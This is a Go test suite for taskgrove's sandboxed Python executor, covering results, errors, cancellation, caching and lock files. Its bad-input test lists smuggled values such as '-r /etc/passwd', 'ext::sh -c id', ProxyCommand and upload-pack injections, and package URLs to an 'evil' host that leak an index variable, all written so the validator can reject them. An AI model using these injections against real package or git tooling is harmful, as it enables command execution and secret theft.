package python_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/taskgrove/taskgrove/executors"
	"github.com/taskgrove/taskgrove/executors/conformance"
	"github.com/taskgrove/taskgrove/executors/network"
	"github.com/taskgrove/taskgrove/executors/python"
)

// shared is a cache for all tests that do not look into it, so that packages are fetched once.
var shared string

func TestMain(m *testing.M) {
	var err error
	if shared, err = os.MkdirTemp("", "taskgrove-python-"); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	code := m.Run()
	_ = os.RemoveAll(shared)
	os.Exit(code)
}

// needUV skips only where uv can't be had.
func needUV(t testing.TB) {
	t.Helper()
	if _, err := exec.LookPath("uv"); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("CI must have uv (tools/need.sh)")
		}
		t.Skip("there is no uv on this machine (pip install uv)")
	}
}

func local() *network.Network {
	return network.New(network.Config{Guard: network.Guard{Loopback: true}})
}

func newExecutor(t testing.TB, change func(*python.Config)) *python.Executor {
	t.Helper()
	needUV(t)
	cfg := python.Config{Allow: true, Cache: shared, Grace: 500 * time.Millisecond}
	if change != nil {
		change(&cfg)
	}
	e := python.New(cfg, local(), nil)
	if why := e.Disabled(); why != "" {
		t.Fatalf("is off: %s", why)
	}
	return e
}

func run(t testing.TB, e executors.Executor, in any) (string, *conformance.Recorder, error) {
	t.Helper()
	call, said := conformance.Call(t, in)
	out, err := e.Run(t.Context(), call)
	text, _ := out.Value().(json.RawMessage)
	return strings.ReplaceAll(string(text), " ", ""), said, err
}

// TestResults: what becomes of code, by what it does.
func TestResults(t *testing.T) {
	e := newExecutor(t, nil)
	for name, row := range map[string]struct{ inputs, want string }{
		"a script without a result":   {`{"script": "1 + 1"}`, `null`},
		"the last result counts":      {`{"script": "import taskgrove\ntaskgrove.result(1)\ntaskgrove.result([True, None])"}`, `[true,null]`},
		"inputs":                      {`{"script": "from taskgrove import inputs, result\nresult(inputs)", "dep": {"a": [1]}}`, `{"dep":{"a":[1]}}`},
		"the attempt":                 {`{"script": "import taskgrove as t\nt.result([t.task_id, t.attempt, t.idempotency_key])"}`, `["task-1",1,"key-1"]`},
		"exit 0":                      {`{"script": "import sys, taskgrove\ntaskgrove.result(1)\nsys.exit()"}`, `1`},
		"main":                        {`{"script": "import taskgrove\nif __name__ == '__main__': taskgrove.result(__file__[-9:])"}`, `"script.py"`},
		"standard input is empty":     {`{"script": "import sys, taskgrove\ntaskgrove.result(sys.stdin.read())"}`, `""`},
		"environment":                 {`{"script": "import os, taskgrove\ntaskgrove.result([os.environ['X'], os.environ['TASKGROVE_ATTEMPT']])", "env": {"X": "1"}}`, `["1","1"]`},
		"a function with arguments":   {`{"function": "m:f", "source": "def f(a, b=2): return a + b", "arguments": {"a": 1}}`, `3`},
		"a function of inputs":        {`{"function": "m:f", "source": "def f(inputs): return inputs", "x": 1}`, `{"x":1}`},
		"a function of nothing":       {`{"function": "m:f", "source": "def f(): return 'x'"}`, `"x"`},
		"a method":                    {`{"function": "m:C.f", "source": "class C:\n  @staticmethod\n  def f(): return 5"}`, `5`},
		"a coroutine":                 {`{"function": "m:f", "source": "async def f(): return 7"}`, `7`},
		"a function that uses helper": {`{"function": "m:f", "source": "import taskgrove\ndef f(): taskgrove.result(8)"}`, `8`},
		"values of the library": {`{"function": "m:f", "source": "import datetime, dataclasses, pathlib\n@dataclasses.dataclass\nclass P:\n  x: int\ndef f(): return [datetime.date(2026, 1, 2), P(1), {3, 1}, (1, 2), pathlib.Path('/a')]"}`,
			`["2026-01-02",{"x":1},[1,3],[1,2],"/a"]`},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got, _, err := run(t, e, row.inputs)
			if err != nil || got != row.want {
				t.Errorf("got %s, %v, want %s", got, err, row.want)
			}
		})
	}
}

// TestALockIsTold: code knows the key that its attempt holds, and its token, by the module and by the environment; who holds none is told none.
func TestALockIsTold(t *testing.T) {
	e := newExecutor(t, nil)
	for lock, want := range map[*executors.Lock]string{{Key: "ledger", Token: 41}: `["ledger",41,"ledger","41"]`, nil: "[null,null,null,null]"} {
		call, _ := conformance.Call(t, `{"script": "import os, taskgrove as t\nt.result([t.lock_key, t.lock_token, os.environ.get('TASKGROVE_LOCK_KEY'), os.environ.get('TASKGROVE_LOCK_TOKEN')])"}`)
		call.Lock = lock
		out, err := e.Run(t.Context(), call)
		if got, _ := json.Marshal(out.Value()); err != nil || string(got) != want {
			t.Errorf("got %s, %v, want %s", got, err, want)
		}
	}
}

// TestFailures: whose fault it is, and whether another attempt helps.
func TestFailures(t *testing.T) {
	e := newExecutor(t, nil)
	for name, row := range map[string]struct {
		inputs, want string // want begins the error
		permanent    bool
		detail       string
	}{
		"an exception":            {`{"script": "def f(x):\n  return 1 / x\nf(0)"}`, "ZeroDivisionError: division by zero", false, "return 1 / x"},
		"permanent":               {`{"script": "import taskgrove\nraise taskgrove.Permanent('gone')"}`, "gone", true, "script.py"},
		"a syntax error":          {`{"script": "def f(:"}`, "SyntaxError: ", true, "def f(:"},
		"an import error":         {`{"script": "import no_such_thing"}`, "ModuleNotFoundError: No module named 'no_such_thing' (packages are asked for in requirements, or in the script's metadata, PEP 723)", true, "script.py"},
		"import error, function":  {`{"function": "m:f", "source": "import no_such_thing"}`, "ModuleNotFoundError: No module", true, "m.py"},
		"a syntax error, module":  {`{"function": "m:f", "source": "def"}`, "SyntaxError: ", true, ""},
		"no such function":        {`{"function": "m:g", "source": "def f(): pass"}`, "module m has no function g", true, ""},
		"not a function":          {`{"function": "m:g", "source": "g = 1"}`, "m:g is not a function", true, ""},
		"wrong arguments":         {`{"function": "m:f", "source": "def f(a): pass", "arguments": {"b": 1}}`, "arguments do not fit m:f: ", true, ""},
		"exit 3":                  {`{"script": "import sys\nsys.exit(3)"}`, "RuntimeError: the script ended with exit code 3", false, ""},
		"the process ends":        {`{"script": "import os, sys\nprint('why', file=sys.stderr, flush=True)\nos._exit(4)"}`, "the executor's process was given up: it ended with exit code 4; the end of its stderr: why", false, ""},
		"a result without a form": {`{"function": "m:f", "source": "def f(): return object()"}`, "the result can't be encoded as JSON: a object has no form in JSON", true, ""},
		"not a number":            {`{"function": "m:f", "source": "def f(): return float('nan')"}`, "the result can't be encoded as JSON: ", true, ""},
		"a circle":                {`{"function": "m:f", "source": "def f():\n  a = []\n  a.append(a)\n  return a"}`, "the result can't be encoded as JSON: ", true, ""},
		"a result too large":      {`{"function": "m:f", "source": "def f(): return 'x' * 20000000"}`, "the result has 20000002 bytes, and at most", true, ""},
		"writes to the protocol":  {`{"script": "import os\nfor fd in range(3, 20):\n  try: os.write(fd, b'{}\\n')\n  except OSError: pass\nimport time; time.sleep(60)"}`, "the executor's process was given up: it wrote a message without a type", false, ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			_, _, err := run(t, e, row.inputs)
			if err == nil || !strings.HasPrefix(err.Error(), row.want) || executors.IsPermanent(err) != row.permanent {
				t.Errorf("got %v (permanent: %v), want %s (%v)", err, executors.IsPermanent(err), row.want, row.permanent)
			}
			if detail := executors.DetailOf(err); !strings.Contains(detail, row.detail) || strings.Contains(detail, "runner.py") {
				t.Errorf("detail %s, want %q in it", detail, row.detail)
			}
		})
	}
	_, _, err := run(t, e, `{"script": "import taskgrove\nraise taskgrove.Retry('busy', after=3)"}`)
	if err == nil || err.Error() != "busy" || executors.RetryAfterOf(err) != 3*time.Second {
		t.Errorf("got %v, want one that may be retried after 3 s", err)
	}
}

// TestBadInputs are told before anything is started, all at once.
func TestBadInputs(t *testing.T) {
	e := newExecutor(t, nil)
	for in, wants := range map[string][]string{
		`{}`: {"[python_executor] script is required in inputs"},
		`{"script": "x", "file": "y", "function": "nope", "arguments": {}}`: {
			"script, function and file: only one of them may be given", `function: "nope" is not of the form module:function`},
		`{"function": "os:system; x"}`:                                                                              {"is not of the form module:function"},
		`{"function": "m:f"}`:                                                                                       {"function: source, git or archive must say where its module is"},
		`{"script": "x", "arguments": {}}`:                                                                          {"arguments: only a function takes them"},
		`{"script": "x", "requirements": "-r /etc/passwd"}`:                                                         {`requirements: the option "-r" is not allowed`},
		`{"script": "x", "requirements": ["--index-url=x"]}`:                                                        {`requirements: the option "--index-url=x" is not allowed`},
		`{"script": "x", "requirements": "a --config-settings=x"}`:                                                  {`the option "--config-settings=x" is not allowed`},
		`{"script": "x", "requirements": "a @ file:///etc"}`:                                                        {"is a file of this machine"},
		`{"script": "x", "requirements": "/tmp/evil"}`:                                                              {"is a file of this machine"},
		`{"script": "x", "requirements": "# a\r-r /etc/hostname"}`:                                                  {`the option "-r" is not allowed`},
		`{"script": "x", "requirements": "a @ /etc/a-1-py3-none-any.whl"}`:                                          {"is a file of this machine"},
		`{"script": "x", "requirements": "a @ \\\n ../a-1-py3-none-any.whl"}`:                                       {"is a file of this machine"},
		`{"script": "x", "requirements": "a @ http://evil/a-1.whl?${UV_INDEX}"}`:                                    {"requirements: they can't have variables"},
		`{"script": "# /// script\n# dependencies = ['a @ http://evil/a-1.whl?${UV_INDEX}']\n# ///\n"}`:             {"they can't have variables"},
		`{"script": "# /// script\n# dependencies = [\"a @ http://evil/?\\u0024\\u007bUV_INDEX}\"]\n# ///\n"}`:      {"dependencies is a list of texts"},
		`{"script": "# /// script\n# dependencies = [\"a @ \\u0066ile:///etc\"]\n# ///\n"}`:                         {"dependencies is a list of texts"},
		`{"script": "# /// script\n# dependencies = ['-r /etc/hostname']\n# ///\n"}`:                                {`the option "-r" is not allowed`},
		`{"script": "# /// script\n# dependencies = ['a']\n# tool.uv.extra-index-url = ['http://evil/']\n# ///\n"}`: {"and no tools"},
		`{"script": "# /// script\n# [ tool.uv ]\n# ///\n"}`:                                                        {"and no tools"},
		`{"script": "# /// script\n# dependencies = '''\n# a'''\n# ///\n"}`:                                         {"and no tools"},
		`{"script": "# /// script\n# requires-python = '/bin/sh'\n# ///\n"}`:                                        {"requires-python is not a version"},
		`{"script": "x", "requirements": "-e ."}`:                                                                   {`the option "-e" is not allowed`},
		`{"script": "x", "python": "/bin/sh"}`:                                                                      {`python: "/bin/sh" is not a version`},
		`{"script": "x", "env": {"TASKGROVE_X": "1"}}`:                                                              {`env: "TASKGROVE_X" can't be set`},
		`{"script": "# /// script\n# [tool.uv]\n# ///\n"}`:                                                          {"may name packages and the version of Python, and no tools"},
		`{"script": "# /// script\n# x = 1\n"}`:                                                                     {"its block of metadata has no end"},
		`{"function": "m:f", "git": {"url": "file:///etc"}}`:                                                        {"git.url: want an https:// or ssh:// URL"},
		`{"function": "m:f", "git": {"url": "ext::sh -c id"}}`:                                                      {"git.url: want an https:// or ssh:// URL"},
		`{"function": "m:f", "git": {"url": "http://a/b"}}`:                                                         {"git.url: want an https:// or ssh:// URL"},
		`{"function": "m:f", "git": {"url": "git://a/b"}}`:                                                          {"git.url: want"},
		`{"function": "m:f", "git": {"url": "/etc"}}`:                                                               {"git.url: want"},
		`{"function": "m:f", "git": {"url": "--upload-pack=x"}}`:                                                    {"git.url: want"},
		`{"function": "m:f", "git": {"url": "ssh://-oProxyCommand=x/y"}}`:                                           {"git.url: want"},
		`{"function": "m:f", "git": {"url": "ssh://-oProxyCommand=x@host/y"}}`:                                      {"git.url: want"},
		`{"function": "m:f", "git": {"url": "ssh://a/b"}}`:                                                          {"git.known_hosts is required for ssh"},
		`{"function": "m:f", "git": {"url": "https://u:p@a/b"}}`:                                                    {"git.url: a password belongs into git.token"},
		`{"function": "m:f", "git": {"url": "https://a/b", "ref": "--upload-pack=id", "path": "../x"}}`: {
			`git.ref: "--upload-pack=id" is not a branch`, `git.path: "../x" is not a path below`},
		`{"file": "../x", "archive": {"url": "ftp://a/b", "sha256": "1"}}`: {
			`file: "../x" is not a path`, "archive.url: want an http:// or https:// URL", "archive.sha256: want 64"},
		`{"file": "x", "archive": {"url": "http://a/b", "path": "rel", "sha256": "1"}}`: {"archive: either url or path", "archive.path: want an absolute path"},
	} {
		_, _, err := run(t, e, in)
		for _, want := range wants {
			if err == nil || !strings.Contains(err.Error(), want) || !executors.IsPermanent(err) {
				t.Errorf("%s:\n got %v\nwant %s", in, err, want)
			}
		}
	}
}

func TestDisabled(t *testing.T) {
	for want, cfg := range map[string]python.Config{
		"TASKGROVE_PYTHON_ALLOW=true allows it": {},
		"TASKGROVE_PYTHON_UV":                   {Allow: true, UV: "/no/uv", Cache: t.TempDir()},
	} {
		e := python.New(cfg, local(), nil)
		if !strings.Contains(e.Disabled(), want) {
			t.Errorf("got %q, want %q in it", e.Disabled(), want)
		}
		if _, _, err := run(t, e, `{"script": "1"}`); !executors.IsPermanent(err) {
			t.Errorf("got %v", err)
		}
	}
}

// TestTalks: what code prints is logged as it comes, on its stream, and progress too.
func TestTalks(t *testing.T) {
	e := newExecutor(t, nil)
	_, said, err := run(t, e, map[string]string{"script": `
import os, subprocess, sys, taskgrove
print("one")
print("two", file=sys.stderr)
taskgrove.log("three")
os.write(1, "vi\u00e9r\n".encode())
subprocess.run(["echo", "five"])
print("six", end="")
taskgrove.progress(0.25, "a quarter")
`})
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"stdout: one", "stderr: two", "log: three", "stdout: viér", "stdout: five", "stdout: six"} {
		if !slices.Contains(said.Lines(), want) {
			t.Errorf("no %q in %q", want, said.Lines())
		}
	}
	if !slices.Equal(said.Fractions(), []float64{0.25}) {
		t.Errorf("progress %v", said.Fractions())
	}
}

// TestTalksALot: neither a million lines nor a million reports of progress are a flood, as the program that runs the code holds them back.
func TestTalksALot(t *testing.T) {
	e := newExecutor(t, nil)
	if _, _, err := run(t, e, map[string]string{"script": "import taskgrove\nfor i in range(300000): print(i)\nfor i in range(60000): taskgrove.progress(i / 60000)"}); err != nil {
		t.Error(err)
	}
}

// running is an attempt in a goroutine of its own.
type running struct {
	cancel context.CancelCauseFunc
	said   *conformance.Recorder
	wait   func() (string, error)
}

func start(t testing.TB, e executors.Executor, in any) running {
	call, said := conformance.Call(t, in)
	ctx, cancel := context.WithCancelCause(t.Context())
	done := make(chan struct{})
	var out *executors.Outcome
	var err error
	go func() {
		defer close(done)
		out, err = e.Run(ctx, call)
	}()
	return running{cancel, said, func() (string, error) {
		<-done
		text, _ := out.Value().(json.RawMessage)
		return string(text), err
	}}
}

func TestCancelInterrupts(t *testing.T) {
	e := newExecutor(t, nil)
	a := start(t, e, map[string]string{"script": `
import taskgrove, time
taskgrove.result({"done": 3})
try:
    print("ready")
    time.sleep(600)
finally:
    print("cleaned up", taskgrove.cancelled())
`})
	<-a.said.Logged("stdout: ready")
	began := time.Now()
	a.cancel(executors.ErrCancelled)
	partial, err := a.wait()
	if !errors.Is(err, executors.ErrCancelled) || partial != `{"done": 3}` || time.Since(began) > 30*time.Second {
		t.Errorf("got %s, %v after %v", partial, err, time.Since(began))
	}
	if !slices.Contains(a.said.Lines(), "stdout: cleaned up True") {
		t.Errorf("said %q", a.said.Lines())
	}
}

// TestCancelKillsAll: code that does not listen is killed, with what it started, and nothing of it is left on disk.
func TestCancelKillsAll(t *testing.T) {
	cache := t.TempDir()
	e := newExecutor(t, func(c *python.Config) { c.Cache = cache })
	a := start(t, e, map[string]string{"script": `
import os, signal, subprocess, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
child = subprocess.Popen(["sleep", "600"], start_new_session=True)
open("file", "w").write("x")
os.chmod(".", 0o500)
print("pids", os.getpid(), child.pid)
while True:
    try:
        time.sleep(600)
    except KeyboardInterrupt:
        pass
`})
	var pids []int
	for len(pids) < 2 {
		for _, line := range a.said.Lines() {
			if text, ok := strings.CutPrefix(line, "stdout: pids "); ok {
				for word := range strings.FieldsSeq(text) {
					pid, _ := strconv.Atoi(word)
					pids = append(pids, pid)
				}
			}
		}
	}
	a.cancel(executors.ErrCancelled)
	if _, err := a.wait(); !errors.Is(err, executors.ErrCancelled) {
		t.Errorf("got %v", err)
	}
	for _, pid := range pids {
		if alive(pid) {
			t.Errorf("process %d is alive", pid)
		}
	}
	if left, _ := os.ReadDir(filepath.Join(cache, "runs")); len(left) > 0 {
		t.Errorf("left: %v", left)
	}
}

// alive reports whether a process runs, other than as a zombie.
func alive(pid int) bool {
	stat, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
	if err != nil {
		return !errors.Is(syscall.Kill(pid, 0), syscall.ESRCH)
	}
	_, rest, _ := strings.Cut(string(stat), ") ")
	return !strings.HasPrefix(rest, "Z")
}

// TestSeesLittle: code sees neither the worker's settings nor uv's passwords, and modules of its directory only.
func TestSeesLittle(t *testing.T) {
	t.Setenv("TASKGROVE_NATS_URL", "nats://hunter2")
	t.Setenv("UV_EXTRA_INDEX_URL", "")
	t.Setenv("SOME_PASSWORD", "hunter2")
	t.Setenv("PYTHONPATH", t.TempDir())
	e := newExecutor(t, nil)
	got, _, err := run(t, e, map[string]string{"script": "import os, sys, taskgrove\ntaskgrove.result([dict(os.environ), sys.path])"})
	if err != nil || strings.Contains(got, "hunter2") || strings.Contains(got, "UV_") || strings.Contains(got, os.Getenv("PYTHONPATH")) {
		t.Errorf("got %s, %v", got, err)
	}
}

func TestPackages(t *testing.T) {
	e := newExecutor(t, nil)
	t.Run("a function with pandas", func(t *testing.T) {
		t.Parallel()
		got, _, err := run(t, e, map[string]any{
			"function": "sales:by_city", "requirements": []string{"pandas"}, "timeout": 300,
			"source":    "import pandas as pd\ndef by_city(rows):\n    return pd.DataFrame(rows).groupby('city', as_index=False)['cents'].sum()\n",
			"arguments": map[string]any{"rows": []any{map[string]any{"city": "a", "cents": 1}, map[string]any{"city": "b", "cents": 2}, map[string]any{"city": "a", "cents": 3}}},
		})
		if err != nil || got != `[{"city":"a","cents":4},{"city":"b","cents":2}]` {
			t.Errorf("got %s, %v", got, err)
		}
	})
	t.Run("examples", func(t *testing.T) {
		t.Parallel()
		want := []string{`{"text":"1,234,567"}`, `{"total":4.8}`}
		for i, one := range e.Describe().Examples {
			if got, _, err := run(t, e, one.Inputs); err != nil || got != want[i] {
				t.Errorf("%s: got %s, %v, want %s", one.Title, got, err, want[i])
			}
		}
	})
	t.Run("a version of Python", func(t *testing.T) {
		t.Parallel()
		got, _, err := run(t, e, `{"script": "import sys, taskgrove\ntaskgrove.result(sys.version_info >= (3, 8))", "python": ">=3.8"}`)
		if err != nil || got != "true" {
			t.Errorf("got %s, %v", got, err)
		}
		_, _, err = run(t, e, `{"script": "1", "python": "2.1"}`)
		if err == nil || !strings.Contains(err.Error(), "the environment was not made: uv ended with exit code") || !executors.IsPermanent(err) {
			t.Errorf("got %v", err)
		}
	})
	t.Run("no such package", func(t *testing.T) {
		t.Parallel()
		_, _, err := run(t, e, `{"script": "1", "requirements": "humanize==999.0"}`)
		if err == nil || !strings.Contains(err.Error(), "[python_executor] the environment was not made: uv ended with exit code 1: ") || !executors.IsPermanent(err) {
			t.Errorf("got %v", err)
		}
	})
	t.Run("a hash that is wrong", func(t *testing.T) {
		t.Parallel()
		_, _, err := run(t, e, `{"script": "1", "requirements": "humanize==4.9.0 --hash=sha256:`+strings.Repeat("0", 64)+`"}`)
		if err == nil || !strings.Contains(err.Error(), "Hash mismatch") || !executors.IsPermanent(err) {
			t.Errorf("got %v", err)
		}
	})
}

// locked makes a lock file with uv, of a project with one small package.
func locked(t *testing.T, command ...string) (project, lock string) {
	t.Helper()
	dir := t.TempDir()
	project = "[project]\nname = \"x\"\nversion = \"0\"\nrequires-python = \">=3.9\"\ndependencies = [\"humanize==4.9.0\"]\n"
	if err := os.WriteFile(filepath.Join(dir, "pyproject.toml"), []byte(project), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(t.Context(), "uv", command...)
	cmd.Dir = dir
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("uv %v: %v", command, err)
	}
	if text, err := os.ReadFile(filepath.Join(dir, "uv.lock")); err == nil {
		return project, string(text)
	}
	return project, string(out)
}

// hashes are those of files.
var hashes = regexp.MustCompile(`\b[0-9a-f]{64}\b`)

func TestLockFiles(t *testing.T) {
	e := newExecutor(t, nil)
	const script = "import importlib.metadata, taskgrove\ntaskgrove.result(importlib.metadata.version('humanize'))"
	project, lock := locked(t, "lock", "-q")
	_, pylock := locked(t, "pip", "compile", "-q", "--format", "pylock.toml", "pyproject.toml")
	for name, in := range map[string]map[string]any{
		"uv.lock":     {"lock": lock, "pyproject": project},
		"pylock.toml": {"lock": pylock},
	} {
		in["script"] = script
		if got, _, err := run(t, e, in); err != nil || got != `"4.9.0"` {
			t.Errorf("%s: got %s, %v", name, got, err)
		}
		in["lock"] = hashes.ReplaceAllString(in["lock"].(string), strings.Repeat("0", 64))
		if _, _, err := run(t, e, in); err == nil || !strings.Contains(strings.ToLower(err.Error()), "hash mismatch") || !executors.IsPermanent(err) {
			t.Errorf("%s with wrong hashes: got %v", name, err)
		}
	}
}

// TestCache: the second attempt finds its environment, those at the same time share one, and what is in use is not removed.
func TestCache(t *testing.T) {
	cache := t.TempDir()
	e := newExecutor(t, func(c *python.Config) { c.Cache, c.Environments = cache, 2 })
	envs := func() (n int) {
		entries, _ := os.ReadDir(filepath.Join(cache, "envs"))
		for _, entry := range entries {
			if entry.IsDir() {
				n++
			}
		}
		return n
	}
	var all sync.WaitGroup
	var mu sync.Mutex
	made := 0
	for range 4 {
		all.Go(func() {
			_, said, err := run(t, e, `{"script": "1", "requirements": "humanize==4.9.0"}`)
			if err != nil {
				t.Error(err)
			}
			mu.Lock()
			defer mu.Unlock()
			if slices.Contains(said.Lines(), "log: making the environment") {
				made++
			}
		})
	}
	all.Wait()
	if made != 1 || envs() != 1 {
		t.Errorf("made %d times, %d environments, want 1 and 1", made, envs())
	}
	began := time.Now()
	if _, said, err := run(t, e, `{"script": "1", "requirements": "humanize==4.9.0"}`); err != nil || len(said.Lines()) > 0 {
		t.Errorf("got %v, said %q", err, said.Lines())
	}
	t.Logf("an attempt that finds its environment takes %v", time.Since(began))

	user := start(t, e, `{"script": "print('ready')\nimport time\ntime.sleep(600)", "requirements": "humanize==4.8.0"}`)
	<-user.said.Logged("stdout: ready")
	for _, version := range []string{"4.7.0", "4.6.0", "4.5.0"} {
		if _, _, err := run(t, e, `{"script": "import humanize", "requirements": "humanize==`+version+`"}`); err != nil {
			t.Fatal(err)
		}
	}
	if got := envs(); got != 2 {
		t.Errorf("%d environments, want 2", got)
	}
	user.cancel(executors.ErrCancelled)
	_, _ = user.wait()
	if _, said, err := run(t, e, `{"script": "import humanize", "requirements": "humanize==4.8.0"}`); err != nil || slices.Contains(said.Lines(), "log: making the environment") {
		t.Errorf("an environment in use was removed (%v)", err)
	}
}

// TestMakingGoesOn: an attempt that is cancelled while it makes the environment leaves nothing half done, and the next one makes it.
func TestMakingGoesOn(t *testing.T) {
	cache := t.TempDir()
	e := newExecutor(t, func(c *python.Config) { c.Cache = cache })
	first := start(t, e, `{"script": "1", "requirements": "humanize==4.4.0"}`)
	<-first.said.Logged("log: making the environment")
	second := start(t, e, `{"script": "import taskgrove\ntaskgrove.result(1)", "requirements": "humanize==4.4.0"}`)
	first.cancel(executors.ErrCancelled)
	if _, err := first.wait(); !errors.Is(err, executors.ErrCancelled) {
		t.Errorf("got %v", err)
	}
	if got, err := second.wait(); err != nil || got != "1" {
		t.Errorf("got %s, %v", got, err)
	}
}

func TestEnvironmentTooLarge(t *testing.T) {
	e := newExecutor(t, func(c *python.Config) { c.Cache, c.CacheBytes = t.TempDir(), 10_000 })
	_, _, err := run(t, e, `{"script": "1", "requirements": "humanize"}`)
	if err == nil || !strings.Contains(err.Error(), "TASKGROVE_PYTHON_CACHE_BYTES") || !executors.IsPermanent(err) {
		t.Errorf("got %v", err)
	}
}
